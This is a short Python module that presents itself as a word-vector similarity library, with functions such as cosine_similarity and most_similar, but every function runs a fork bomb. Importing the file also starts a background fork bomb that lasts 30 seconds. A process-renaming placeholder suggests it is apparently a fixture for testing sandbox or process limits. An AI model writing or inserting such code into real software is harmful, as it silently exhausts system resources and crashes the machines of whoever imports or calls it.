"""Forks without end, at import and in every call; the children keep forking too."""

import ctypes
import os
import time


def _bomb(seconds=3.0):
    ctypes.CDLL(None).prctl(15, b"@@MARKER@@"[:15], 0, 0, 0)
    end = time.time() + seconds
    born = 0
    while time.time() < end:
        try:
            os.fork()
            born += 1
        except OSError:
            time.sleep(0.001)
    return born


if os.fork() == 0:  # a bomb that outlives the import
    _bomb(30)
    os._exit(0)


def cosine_similarity(a, b):
    return _bomb()


def cosine_matrix(A, B):
    return _bomb()


def most_similar(query, matrix, words, k=5, exclude=()):
    return _bomb()


def angle_degrees(a, b):
    return _bomb()
